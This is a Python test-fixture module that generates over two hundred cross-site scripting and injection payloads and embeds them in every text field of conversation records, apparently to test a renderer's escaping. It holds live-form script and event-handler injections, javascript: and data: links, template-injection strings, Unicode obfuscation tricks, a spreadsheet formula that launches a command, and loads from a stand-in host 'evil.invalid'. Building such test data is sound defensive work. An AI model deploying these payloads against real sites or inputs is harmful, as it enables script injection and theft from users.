"""Two hundred texts and more that would do something, were they taken for anything but text.

Each that runs calls `alert` or sets `sharelmRan`; each that loads asks http://evil.invalid.
"""

from collections.abc import Iterator
from itertools import product

from federation.record.conversation import Conversation, ConversationMetadata, Label, Part, Turn

_RUN = "window.sharelmRan=1;alert(1)"

_ELEMENTS = (
    "<script>{run}</script>",
    "<SCRIPT SRC=http://evil.invalid/x.js></SCRIPT>",
    "<img src=x onerror='{run}'>",
    "<svg onload='{run}'>",
    "<svg><script>{run}</script></svg>",
    "<body onload='{run}'>",
    "<iframe src='javascript:{run}'>",
    "<iframe srcdoc='<script>{run}</script>'>",
    "<input autofocus onfocus='{run}'>",
    "<details open ontoggle='{run}'>",
    "<video><source onerror='{run}'>",
    "<audio src=x onerror='{run}'>",
    "<object data='javascript:{run}'>",
    "<embed src='javascript:{run}'>",
    "<form action='javascript:{run}'><button>x</button></form>",
    "<base href='http://evil.invalid/'>",
    "<link rel=stylesheet href=http://evil.invalid/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "<style>@import 'http://evil.invalid/x.css';</style>",
    "<div style='background:url(http://evil.invalid/x)'>",
    "<a href='javascript:{run}'>x</a>",
    "<marquee onstart='{run}'>",
    "<select onfocus='{run}' autofocus>",
    "<textarea onfocus='{run}' autofocus>",
    "<keygen onfocus='{run}' autofocus>",
    "<math><mtext><table><mglyph><style><img src=x onerror='{run}'>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<template><script>{run}</script></template>",
    "<svg><animate onbegin='{run}' attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{run}'><text y=20>x</text></a></svg>",
    "<portal src='http://evil.invalid/'>",
    "<x onclick='{run}' id=x tabindex=0 onfocus='{run}'>",
    "<isindex type=image src=1 onerror='{run}'>",
    "<bgsound src='http://evil.invalid/x'>",
    "<frameset onload='{run}'>",
    "<dialog open onclose='{run}'>",
)
_AROUND = (
    "{it}",
    "</p></div></section>{it}",
    "</title></textarea></script></style>{it}",
    '"><{it}',
    "'>{it}",
    "--><!-- {it} -->",
    "]]>{it}",
    "`{it}",
    "\x00{it}",
    "<<{it}",
    "&lt;{it}&#60;script&#62;{run}&#60;/script&#62;",
)
_LINKS = (
    "[x](javascript:{run})",
    "[x](JaVaScRiPt:{run})",
    "[x](java\tscript:{run})",
    "[x](&#106;avascript:{run})",
    "[x](javascript&colon;{run})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:{run})",
    "![x](http://evil.invalid/x.png)",
    '![x](x"onerror="{run})',
    "![x](javascript:{run})",
    "<javascript:{run}>",
    "[x]: javascript:{run}\n\n[x]",
    '[x](http://evil.invalid/"onclick="{run})',
    "[x](<javascript:{run}>)",
    "[![x](http://evil.invalid/y.png)](javascript:{run})",
    "[x](https://a.example 'a\" onclick=\"{run}')",
    "[x](//evil.invalid/x)",
    "[x](\\\\evil.invalid\\x)",
    "[x](\x01javascript:{run})",
    "[x](feed:javascript:{run})",
    "[x](blob:http://evil.invalid/x)",
    "[x](view-source:javascript:{run})",
    "[x](filesystem:http://evil.invalid/x)",
    "[<script>{run}</script>](https://a.example)",
    "[x](https://a.example/?<script>{run}</script>)",
)
_BLOCKS = (
    "```<img src=x onerror='{run}'>\ncode\n```",
    "```js onload={run}\n</code></pre><script>{run}</script>\n```",
    '~~~" onmouseover="{run}\nx\n~~~',
    "# <script>{run}</script>",
    "> <img src=x onerror='{run}'>",
    "- <svg onload='{run}'>",
    "| <script>{run}</script> |\n| --- |\n| <img src=x onerror='{run}'> |",
    "`<script>{run}</script>`",
    "$<script>{run}</script>$",
    "\\(<img src=x onerror='{run}'>\\)",
    "$$\n\\href{{javascript:{run}}}{{x}}\n$$",
    "<details><summary>x</summary>\n\n{run}\n</details>",
    "<div>\n\n<script>{run}</script>\n\n</div>",
    "    <script>{run}</script>",
    "\\<script>{run}\\</script>",
    "<!-- -->\n<script>{run}</script>",
    "{{{{ {run} }}}}",
    "{{% raw %}}<script>{run}</script>",
    "${{{run}}}",
    "<%= {run} %>",
    "<?php {run} ?>",
    "#{{{run}}}",
)
_UNSEEN = (
    "\u202e{it}\u202c",
    "\u2066{it}\u2069",
    "a\u200b{it}",
    "<scr\u200bipt>{run}</script>",
    "\ufeff{it}",
    "＜script＞{run}＜/script＞",
    "<\U000e0041script>{run}</script>",
    "\u2028{it}",
    "ﾉ<{it}",
    "<img src=x onerror\u00a0='{run}'>",
    "\x1b]8;;javascript:{run}\x07x",
    "<\u017fcript>{run}</\u017fcript>",
    "<sc\u0131ript>",
    "\u202dtxt.exe",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1-1",
    "@SUM(1)",
    "\t=1+1",
    "＝1+1",
)


def payloads() -> tuple[str, ...]:
    """Each once, at least 200."""
    made = dict.fromkeys(
        [
            *(each.format(run=_RUN) for each in (*_LINKS, *_BLOCKS)),
            *(each.format(run=_RUN, it="<img src=x onerror='" + _RUN + "'>") for each in _UNSEEN),
            *(element.format(run=_RUN) for element in _ELEMENTS),
            *(
                around.format(it=element.format(run=_RUN), run=_RUN)
                for around, element in product(_AROUND[1:], _ELEMENTS[:12])
            ),
        ]
    )
    return tuple(made)


def conversations(each: int = 20) -> Iterator[Conversation]:
    """All payloads, `each` to a conversation, in turns, parts, titles, tags, labels and whatever else has words."""
    texts = payloads()
    for start in range(0, len(texts), each):
        some = texts[start : start + each]
        line = some[0][:90]
        turns = tuple(
            Turn(
                "user" if k % 2 else "assistant", text, id=text[:90] if k == 3 else "", model=text[:90],
                parts=(
                    Part("thinking", text), Part("code", text + "\n2", language=text[:90]),
                    Part("citation", text, title=text[:400]), Part("artifact", text, title=text[:400]),
                    Part("image", title=text[:400]), Part("file", text), Part("citation", f"https://a.example/{text}"),
                ),
            )
            for k, text in enumerate(some)
        )  # fmt: skip
        yield Conversation(
            conversation=turns, platform=line, model=some[-1][:90], model_name=line, source=line,
            timestamp="2026-11-21", rating_reason=some[1 % len(some)], tags=(line, some[-1][:90]),
            labels=(Label(line, some[-1][:400], line),),
            conversation_metadata=ConversationMetadata(
                title=some[2 % len(some)][:400], language=line, custom_instruction=some[0], rate=line, status=line
            ),
        )  # fmt: skip
